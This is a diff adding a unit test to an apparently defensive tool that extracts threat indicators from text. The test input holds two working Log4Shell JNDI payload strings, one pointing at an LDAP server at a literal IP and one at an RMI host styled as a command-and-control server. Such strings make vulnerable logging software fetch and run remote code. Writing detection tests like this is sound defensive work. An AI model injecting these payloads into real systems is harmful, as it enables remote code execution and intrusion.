@@ -77,4 +77,14 @@ describe('extractIndicators', () => {
       'https://example.com/path',
     ]);
   });
+
+  it("takes a Log4Shell payload's JNDI lookup as a URL, its address only inside it", () => {
+    expect(
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, literally
+      extractIndicators('UA: ${jndi:ldap://167.99.36.212:1389/a} and ${jndi:rmi://c2.example.net/x}'),
+    ).toEqual([
+      { kind: 'url', value: 'ldap://167.99.36.212:1389/a' },
+      { kind: 'url', value: 'rmi://c2.example.net/x' },
+    ]);
+  });
 });
